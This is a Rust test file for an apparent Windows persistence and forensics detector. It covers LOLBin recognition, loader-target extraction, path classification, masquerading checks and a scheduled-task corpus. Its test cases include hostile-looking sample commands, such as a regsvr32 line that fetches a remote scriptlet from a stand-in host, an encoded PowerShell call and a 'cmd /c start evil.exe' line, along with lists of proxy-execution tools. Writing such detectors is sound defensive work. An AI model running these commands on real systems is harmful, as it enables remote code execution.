//! Tests: realistic values from `host.md` §5/§7, the Windows 10 task corpus, robustness.

use super::*;
use std::path::Path;

const TASKS: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/corpus/host/tasks-win10"
);

fn env_tony() -> Env {
    Env::default_for_user("C:\\Users\\tony")
}

// ---------------------------------------------------------------- Env

#[test]
fn expansion_of_task_and_run_values() {
    let env = env_tony();
    assert_eq!(
        env.expand("%windir%\\system32\\rundll32.exe"),
        "C:\\Windows\\system32\\rundll32.exe"
    );
    assert_eq!(env.expand("%WinDir%\\System32"), "C:\\Windows\\System32");
    assert_eq!(env.expand("%SYSTEMROOT%\\x"), "C:\\Windows\\x");
    assert_eq!(
        env.expand("%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe"),
        "C:\\Users\\tony\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe"
    );
    assert_eq!(
        env.expand("%ProgramFiles%\\Windows Sidebar\\Sidebar.exe /autoRun"),
        "C:\\Program Files\\Windows Sidebar\\Sidebar.exe /autoRun"
    );
    assert_eq!(
        env.expand("%ProgramFiles(x86)%\\Google"),
        "C:\\Program Files (x86)\\Google"
    );
    assert_eq!(
        env.expand("%APPDATA%\\x.dll"),
        "C:\\Users\\tony\\AppData\\Roaming\\x.dll"
    );
    assert_eq!(
        env.expand("%TEMP%"),
        "C:\\Users\\tony\\AppData\\Local\\Temp"
    );
    assert_eq!(env.expand("%UserName%|%HomePath%"), "tony|\\Users\\tony");
    assert_eq!(
        env.expand("/autoclean /d %systemdrive%"),
        "/autoclean /d C:"
    );
    assert_eq!(
        env.expand("$(Arg0) $(Arg1) $(Arg2)"),
        "$(Arg0) $(Arg1) $(Arg2)"
    );
}

#[test]
fn expansion_edge_cases() {
    let env = env_tony();
    assert_eq!(env.expand("%unknown%\\x"), "%unknown%\\x");
    assert_eq!(
        env.expand("%foo%windir%"),
        "%foo%windir%",
        "scanning resumes after the unknown"
    );
    assert_eq!(env.expand("%foo%%windir%"), "%foo%C:\\Windows");
    assert_eq!(env.expand("100%"), "100%");
    assert_eq!(env.expand("%%"), "%%");
    assert_eq!(env.expand("%"), "%");
    assert_eq!(env.expand("ボ%windir%ボ"), "ボC:\\Windows\u{30dc}");
    assert_eq!(Env::new().expand("%windir%"), "%windir%");

    let mut env = Env::new();
    env.set("Self", "%self%");
    assert_eq!(env.expand("%SELF%"), "%self%", "one pass, no recursion");
    env.set("big", &"x".repeat(40_000));
    let twice = env.expand("%big%%big%");
    assert_eq!(
        twice.len(),
        40_000 + "%big%".len(),
        "second substitution over the cap"
    );
    assert!(twice.ends_with("%big%"));
    assert_eq!(env.get("BIG").map(str::len), Some(40_000));
    env.set("BIG", "y");
    assert_eq!(env.get("big"), Some("y"));
}

// ---------------------------------------------------------------- split_command

fn split(s: &str) -> (String, String) {
    let c = split_command(s);
    (c.program, c.args)
}

#[test]
fn programs_and_arguments() {
    let cases: [(&str, &str, &str); 12] = [
        // regipy NTUSER.DAT Run\Sidebar (unquoted, with spaces).
        (
            "%ProgramFiles%\\Windows Sidebar\\Sidebar.exe /autoRun",
            "%ProgramFiles%\\Windows Sidebar\\Sidebar.exe",
            "/autoRun",
        ),
        // transactions_NTUSER.DAT Run\OneDrive.
        (
            "\"C:\\Users\\tony\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
            "C:\\Users\\tony\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
            "/background",
        ),
        // NTUSER_modified.DAT Run\not_a_malware.
        (
            "c:\\temp\\legitimate_binary.exe",
            "c:\\temp\\legitimate_binary.exe",
            "",
        ),
        (
            "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler",
            "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
            "/ua /installsource scheduler",
        ),
        (
            "%windir%\\system32\\rundll32.exe /d acproxy.dll,PerformAutochkOperations",
            "%windir%\\system32\\rundll32.exe",
            "/d acproxy.dll,PerformAutochkOperations",
        ),
        (
            "cmd /c start C:\\x\\evil.exe",
            "cmd",
            "/c start C:\\x\\evil.exe",
        ),
        ("C:\\tools\\run me now", "C:\\tools\\run", "me now"),
        (
            "C:\\Program Files\\My App\\app.exe -flag C:\\other\\b.exe",
            "C:\\Program Files\\My App\\app.exe",
            "-flag C:\\other\\b.exe",
        ),
        (
            "C:\\Program Files\\tool -x C:\\a.exe",
            "C:\\Program",
            "Files\\tool -x C:\\a.exe",
        ),
        ("\"C:\\unterminated", "C:\\unterminated", ""),
        ("  \trundll32.exe  x.dll,A ", "rundll32.exe", "x.dll,A "),
        ("", "", ""),
    ];
    for (input, program, args) in cases {
        assert_eq!(
            split(input),
            (program.to_string(), args.to_string()),
            "{input:?}"
        );
    }
}

#[test]
fn argument_tokens() {
    assert_eq!(split_args("a \"b c\" d"), ["a", "b c", "d"]);
    assert_eq!(
        split_args("\"C:\\Users\\A\\AppData\\Local\\Abcd\\qehxk.xwa\",RunDLL"),
        ["C:\\Users\\A\\AppData\\Local\\Abcd\\qehxk.xwa,RunDLL"]
    );
    assert_eq!(
        split_args("a\\\\\\\"b"),
        ["a\\\"b"],
        "2n+1 backslashes + quote"
    );
    assert_eq!(
        split_args("a\\\\\"b c\""),
        ["a\\b c"],
        "2n backslashes + quote"
    );
    assert_eq!(split_args("C:\\x\\ y"), ["C:\\x\\", "y"]);
    assert_eq!(split_args("\"\""), [""]);
    assert!(split_args("  \t ").is_empty());
    assert_eq!(split_args(&"a ".repeat(1_000)).len(), MAX_ARGS);
}

#[test]
fn file_names() {
    assert_eq!(
        file_name("C:\\Windows\\System32\\svchost.exe"),
        "svchost.exe"
    );
    assert_eq!(file_name("c:/x/y.dll"), "y.dll");
    assert_eq!(file_name("svchost.exe"), "svchost.exe");
    assert_eq!(file_name("C:\\dir\\"), "");
    assert_eq!(file_name(""), "");
}

// ---------------------------------------------------------------- lolbins

#[test]
fn lolbins() {
    assert_eq!(
        lolbin("%windir%\\system32\\rundll32.exe"),
        Some(Lolbin::Rundll32)
    );
    assert_eq!(lolbin("RUNDLL32"), Some(Lolbin::Rundll32));
    assert_eq!(
        lolbin("\"C:\\Windows\\SysWOW64\\regsvr32.exe\""),
        Some(Lolbin::Regsvr32)
    );
    assert_eq!(lolbin("msiexec.exe"), Some(Lolbin::Msiexec));
    assert_eq!(lolbin("pwsh.exe"), Some(Lolbin::Powershell));
    assert_eq!(lolbin("C:\\x\\PowerShell.EXE"), Some(Lolbin::Powershell));
    assert_eq!(lolbin("mshta"), Some(Lolbin::Mshta));
    assert_eq!(lolbin("wscript.exe"), Some(Lolbin::Wscript));
    assert_eq!(lolbin("cscript.exe"), Some(Lolbin::Cscript));
    assert_eq!(lolbin("cmd.exe"), Some(Lolbin::Cmd));
    assert_eq!(lolbin("certutil.exe"), Some(Lolbin::Other));
    assert_eq!(lolbin("OneDrive.exe"), None);
    assert_eq!(lolbin("rundll32.exe.bak"), None);
    assert_eq!(lolbin(""), None);
}

#[test]
fn loader_targets() {
    let cases: [(&str, Option<&str>); 16] = [
        (
            "%windir%\\system32\\rundll32.exe /d acproxy.dll,PerformAutochkOperations",
            Some("acproxy.dll"),
        ),
        (
            "C:\\Windows\\SysWOW64\\rundll32.exe \"C:\\Users\\A\\AppData\\Local\\Abcd\\qehxk.xwa\",RunDLL",
            Some("C:\\Users\\A\\AppData\\Local\\Abcd\\qehxk.xwa"),
        ),
        (
            "rundll32.exe \"C:\\a,b\\x.dll\",Entry",
            Some("C:\\a,b\\x.dll"),
        ),
        (
            "rundll32.exe C:\\Users\\a\\AppData\\Local\\Temp\\1.dll,DllRegisterServer",
            Some("C:\\Users\\a\\AppData\\Local\\Temp\\1.dll"),
        ),
        (
            "rundll32 shell32.dll,Control_RunDLL x.cpl",
            Some("shell32.dll"),
        ),
        ("rundll32.exe C:\\x\\a.dll, RunDLL", Some("C:\\x\\a.dll")),
        (
            "rundll32.exe -sta {00000000-0000-0000-0000-000000000000}",
            None,
        ),
        ("rundll32.exe", None),
        (
            "regsvr32 /s C:\\ProgramData\\x.tmp",
            Some("C:\\ProgramData\\x.tmp"),
        ),
        (
            "regsvr32.exe -s \"C:\\Users\\Public\\a.dll\"",
            Some("C:\\Users\\Public\\a.dll"),
        ),
        (
            "regsvr32 /s /n /i:http://x/y.sct scrobj.dll",
            Some("scrobj.dll"),
        ),
        (
            "msiexec.exe /y C:\\Users\\x\\AppData\\Roaming\\a.dll",
            Some("C:\\Users\\x\\AppData\\Roaming\\a.dll"),
        ),
        ("msiexec /q /i \"C:\\Temp\\p.msi\"", Some("C:\\Temp\\p.msi")),
        ("msiexec /q", None),
        ("powershell.exe -enc AAAA", None),
        ("C:\\Program Files\\x.exe C:\\a.dll", None),
    ];
    for (cmd, target) in cases {
        assert_eq!(loader_target(cmd).as_deref(), target, "{cmd:?}");
    }
}

// ---------------------------------------------------------------- classify

#[test]
fn places() {
    use Place::*;
    let cases: [(&str, Place); 30] = [
        ("C:\\Windows\\System32\\svchost.exe", System),
        ("c:\\windows\\syswow64\\Abcd\\qehxk.xwa", System),
        ("C:\\Windows\\explorer.exe", System),
        ("%windir%\\system32\\rundll32.exe", System),
        ("acproxy.dll", System),
        ("\\SystemRoot\\System32\\drivers\\acpi.sys", System),
        ("System32\\drivers\\1394ohci.sys", System),
        ("\\??\\C:\\Windows\\system32\\x.sys", System),
        ("\\\\?\\C:\\Windows\\x.exe", System),
        (
            "\\Device\\HarddiskVolume3\\Windows\\System32\\x.exe",
            System,
        ),
        ("C:\\Windows\\Temp\\x.dll", UserWritable("Windows\\Temp")),
        (
            "C:\\Windows\\System32\\..\\..\\ProgramData\\x.dll",
            UserWritable("ProgramData"),
        ),
        (
            "..\\..\\Users\\Public\\x.dll",
            UserWritable("Users\\Public"),
        ),
        ("%ProgramFiles%\\Windows Sidebar\\Sidebar.exe", ProgramFiles),
        (
            "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
            ProgramFiles,
        ),
        ("C:\\PROGRA~1\\x\\y.exe", ProgramFiles),
        (
            "C:\\Users\\tony\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
            UserWritable("AppData\\Local"),
        ),
        (
            "C:\\Users\\A\\AppData\\Local\\Abcd\\qehxk.xwa",
            UserWritable("AppData\\Local"),
        ),
        (
            "C:\\Users\\A\\AppData\\Roaming\\Microsoft\\x.dll",
            UserWritable("AppData\\Roaming"),
        ),
        ("%TEMP%\\1.dll", UserWritable("AppData\\Local\\Temp")),
        (
            "C:\\Users\\A\\AppData\\LocalLow\\x.dll",
            UserWritable("AppData\\LocalLow"),
        ),
        ("C:\\ProgramData\\x.tmp", UserWritable("ProgramData")),
        ("C:\\Users\\Public\\a.dll", UserWritable("Users\\Public")),
        ("C:\\Users\\tony\\Downloads\\a.exe", UserWritable("Users")),
        ("c:\\temp\\legitimate_binary.exe", UserWritable("Temp")),
        ("C:\\TMP\\mim.exe", UserWritable("Temp")),
        (
            "C:\\Documents and Settings\\bob\\Local Settings\\Temp\\x.exe",
            UserWritable("AppData\\Local\\Temp"),
        ),
        ("C:\\ProgramData .\\x.dll", UserWritable("ProgramData")),
        ("D:\\Tools\\x.exe", Other),
        ("\\\\server\\share\\x.dll", Other),
    ];
    for (path, place) in cases {
        assert_eq!(classify(path), place, "{path:?}");
    }
    assert_eq!(classify(""), Other);
    assert_eq!(classify("\\\\?\\UNC\\server\\share\\x.dll"), Other);
    assert_eq!(classify("C:\\"), Other);
}

#[test]
fn relative_targets_are_system() {
    let target =
        loader_target("%windir%\\system32\\rundll32.exe /d acproxy.dll,PerformAutochkOperations")
            .unwrap();
    assert_eq!(classify(&target), Place::System);
    let (comps, relative) = components(&target).unwrap();
    assert!(relative);
    assert_eq!(comps, ["windows", "system32", "acproxy.dll"]);
    let (comps, relative) = components("C:\\Windows\\.\\System32\\..\\SysWOW64\\x.dll").unwrap();
    assert!(!relative);
    assert_eq!(comps, ["windows", "syswow64", "x.dll"]);
    let (comps, _) = components("C:\\..\\..\\x").unwrap();
    assert_eq!(comps, ["x"], "never above the root");
}

// ---------------------------------------------------------------- names

#[test]
fn masquerading() {
    assert!(is_windows_binary_name("svchost.exe"));
    assert!(is_windows_binary_name("SVCHOST.EXE"));
    assert!(is_windows_binary_name("RuntimeBroker.exe"));
    assert!(!is_windows_binary_name("svchost"));
    assert!(!is_windows_binary_name("OneDrive.exe"));
    assert_eq!(WINDOWS_BINARY_NAMES.len(), 53);
    assert!(
        WINDOWS_BINARY_NAMES
            .iter()
            .all(|n| n.ends_with(".exe") && *n == n.to_lowercase())
    );

    // regipy SOFTWARE hive HKLM Run\svchost (host.md §7).
    assert!(is_masquerading(
        "c:\\windows\\system32\\dllhost\\svchost.exe"
    ));
    assert!(is_masquerading(
        "C:\\Users\\A\\AppData\\Roaming\\svchost.exe"
    ));
    assert!(is_masquerading("C:\\ProgramData\\rundll32.exe"));
    assert!(is_masquerading("C:\\Windows\\svchost.exe"));
    assert!(!is_masquerading("C:\\Windows\\System32\\svchost.exe"));
    assert!(!is_masquerading("%windir%\\SysWOW64\\rundll32.exe"));
    assert!(!is_masquerading(
        "C:\\Windows\\WinSxS\\amd64_x\\svchost.exe"
    ));
    assert!(!is_masquerading("C:\\Windows\\explorer.exe"));
    assert!(is_masquerading("C:\\Users\\Public\\explorer.exe"));
    assert!(!is_masquerading(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    ));
    assert!(is_masquerading(
        "C:\\Windows\\System32\\powershell\\powershell.exe"
    ));
    assert!(!is_masquerading(
        "C:\\Program Files\\PowerShell\\7\\pwsh.exe"
    ));
    assert!(!is_masquerading(
        "C:\\Users\\A\\AppData\\Local\\Microsoft\\WindowsApps\\wsl.exe"
    ));
    assert!(
        !is_masquerading("svchost.exe"),
        "bare names resolve through the search path"
    );
    assert!(!is_masquerading("C:\\Tools\\OneDrive.exe"));
    assert!(!is_masquerading(""));
}

#[test]
fn guid_and_digit_names() {
    assert!(is_guid_only("{CF8953F0-7413-4BC6-94A3-B0282ACC3AE4}"));
    assert!(is_guid_only("{cf8953f0-7413-4bc6-94a3-b0282acc3ae4}"));
    assert!(!is_guid_only(
        "GoogleUpdateTaskMachineCore{CF8953F0-7413-4BC6-94A3-B0282ACC3AE4}"
    ));
    assert!(!is_guid_only("CF8953F0-7413-4BC6-94A3-B0282ACC3AE4"));
    assert!(!is_guid_only("{CF8953F0-7413-4BC6-94A3-B0282ACC3AEG}"));
    assert!(!is_guid_only("{CF8953F07413-4BC6-94A3-B0282ACC3AE4-}"));
    assert!(!is_guid_only("{ＣF8953F0-7413-4BC6-94A3-B0282ACC3A}"));
    assert!(!is_guid_only(""));

    assert!(is_all_digits("12345678"));
    assert!(!is_all_digits("1394ohci"));
    assert!(!is_all_digits(""));
    assert!(!is_all_digits("１２３"));
}

// ---------------------------------------------------------------- corpus

/// `(task file, Command, Arguments)` of every Exec action, read crudely from the UTF-16 XML.
fn corpus_exec_actions() -> Vec<(String, String, String)> {
    fn walk(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
        for entry in std::fs::read_dir(dir).expect("corpus readable") {
            let path = entry.unwrap().path();
            if path.is_dir() {
                walk(&path, out);
            } else {
                out.push(path);
            }
        }
    }
    fn element<'a>(xml: &'a str, tag: &str) -> Option<&'a str> {
        let open = format!("<{tag}>");
        let start = xml.find(&open)? + open.len();
        let end = xml[start..].find(&format!("</{tag}>"))? + start;
        Some(&xml[start..end])
    }
    let mut files = Vec::new();
    walk(Path::new(TASKS), &mut files);
    assert_eq!(files.len(), 202);
    let mut actions = Vec::new();
    for file in files {
        let bytes = std::fs::read(&file).unwrap();
        assert_eq!(&bytes[..2], b"\xFF\xFE");
        let units: Vec<u16> = bytes[2..]
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        let xml = String::from_utf16(&units).unwrap();
        // `<Exec>` or `<Exec id="…">` (RemoteAssistanceTask).
        for exec in xml.split("<Exec").skip(1) {
            if !exec.starts_with(['>', ' ']) {
                continue; // <ExecutionTimeLimit>
            }
            let exec = &exec[..exec.find("</Exec>").unwrap()];
            let unescape = |s: &str| {
                s.replace("&gt;", ">")
                    .replace("&lt;", "<")
                    .replace("&amp;", "&")
            };
            actions.push((
                file.file_name().unwrap().to_string_lossy().into_owned(),
                unescape(element(exec, "Command").unwrap()),
                element(exec, "Arguments").map(unescape).unwrap_or_default(),
            ));
        }
    }
    actions
}

#[test]
fn windows10_task_corpus() {
    let actions = corpus_exec_actions();
    assert_eq!(actions.len(), 90);
    let env = env_tony();
    let mut rundll32 = 0;
    for (task, command, arguments) in &actions {
        let program = split_command(command).program;
        let place = classify(&env.expand(&program));
        match task.as_str() {
            "GameOver" => {
                assert_eq!(program, "C:\\TMP\\mim.exe");
                assert_eq!(place, Place::UserWritable("Temp"));
            }
            t if t.starts_with("OneDrive") => {
                assert_eq!(place, Place::UserWritable("AppData\\Local"), "{t}");
                assert_eq!(lolbin(&program), None);
            }
            t => assert!(
                matches!(place, Place::System | Place::ProgramFiles),
                "{t}: {program} → {place:?}"
            ),
        }
        assert!(!is_masquerading(&env.expand(&program)), "{task}: {program}");
        if lolbin(&program) == Some(Lolbin::Rundll32) {
            rundll32 += 1;
            let target = loader_target(&format!("{command} {arguments}")).expect("a DLL");
            assert_eq!(
                classify(&env.expand(&target)),
                Place::System,
                "{task}: {target}"
            );
        }
    }
    assert_eq!(rundll32, 10);

    let names: Vec<String> = actions.iter().map(|(t, _, _)| t.clone()).collect();
    let guid_suffixed: Vec<&String> = names.iter().filter(|n| n.ends_with('}')).collect();
    assert_eq!(
        guid_suffixed.len(),
        2,
        "the two GoogleUpdateTaskMachine… tasks"
    );
    for name in &names {
        assert!(!is_guid_only(name), "{name}");
    }
    for name in guid_suffixed {
        assert!(is_guid_only(&name[name.len() - 38..]), "{name}");
    }
}

// ---------------------------------------------------------------- robustness

fn xorshift(x: &mut u64) -> u64 {
    *x ^= *x << 13;
    *x ^= *x >> 7;
    *x ^= *x << 17;
    *x
}

fn random_string(x: &mut u64, max_chars: usize) -> String {
    const POOL: &[char] = &[
        'a', 'Z', 'c', ':', '\\', '/', '"', ' ', '\t', ',', '.', '%', '-', '{', '}', '?', '$', '(',
        ')', 'İ', 'ß', 'ﬃ', 'Σ', '🌎', 'ボ', '\u{202E}', '\u{0}', '\u{3000}', '\n',
    ];
    const WORDS: &[&str] = &[
        "windir",
        "Windows",
        "System32",
        "..",
        "rundll32.exe",
        "regsvr32",
        "msiexec",
        "/i",
        "-sta",
        "AppData",
        "Local",
        "Temp",
        "Program Files",
        "\\\\?\\",
        "\\Device\\HarddiskVolume",
        "\\SystemRoot\\",
        "UNC\\",
        "svchost.exe",
    ];
    let len = (xorshift(x) % (max_chars as u64 + 1)) as usize;
    let mut s = String::new();
    for _ in 0..len {
        let r = xorshift(x);
        match r % 4 {
            0 => s.push(char::from_u32((r >> 8) as u32 % 0x11_0000).unwrap_or('\u{FFFD}')),
            1 => s.push_str(WORDS[(r >> 8) as usize % WORDS.len()]),
            _ => s.push(POOL[(r >> 8) as usize % POOL.len()]),
        }
    }
    s
}

#[test]
fn random_strings_never_panic() {
    let env = env_tony();
    let mut x = 0x5EED_1234_ABCD_0001u64;
    for _ in 0..5_000 {
        let s = random_string(&mut x, 30);
        let expanded = env.expand(&s);
        assert!(expanded.len() <= s.len() + MAX_EXPANDED_LEN);
        let c = split_command(&s);
        assert!(c.program.len() + c.args.len() <= s.len());
        assert!(split_args(&s).len() <= MAX_ARGS);
        let _ = file_name(&s);
        let _ = lolbin(&s);
        if let Some(t) = loader_target(&s) {
            assert!(!t.is_empty() && t.len() <= s.len());
        }
        let _ = classify(&s);
        let _ = components(&s);
        let _ = is_masquerading(&s);
        let _ = is_windows_binary_name(&s) | is_guid_only(&s) | is_all_digits(&s);
    }
}
